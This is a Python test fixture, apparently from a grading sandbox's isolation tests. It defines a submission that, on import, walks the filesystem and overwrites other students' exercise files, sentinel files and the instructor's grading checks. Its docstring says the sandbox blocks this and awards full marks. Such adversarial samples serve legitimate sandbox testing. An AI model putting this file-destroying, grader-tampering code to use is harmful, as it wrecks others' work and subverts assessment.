"""Class 3, harming others: a correct submission that, at import, overwrites another
submission's exercise file and files of the instructor's tree, one in checks/ (by absolute
path), the checks it is graded with, and every ex3_openai.py it can find under / but its own.

Stopped: none of them is in the sandbox but its own copy and read-only checks. Full marks.
"""
BASE = "solution"
EXPECT = "full"
TARGETS = ["__OTHER__", "__SENTINEL__", "__CHECKS_SENTINEL__", "/grading/checks/test_ex3.py"]


def _harm():
    import os
    import sys

    me = os.path.realpath(__file__)
    found = list(TARGETS)
    for root, dirs, files in os.walk("/"):
        if root.startswith(("/proc", "/sys", "/usr", sys.base_prefix, sys.prefix)):
            dirs.clear()
            continue
        found += [os.path.join(root, f) for f in files if f == "ex3_openai.py"]
    for path in found:
        if os.path.realpath(path) == me:
            continue
        try:
            with open(path, "w") as f:
                f.write("raise NotImplementedError\n")
        except OSError:
            pass


_harm()
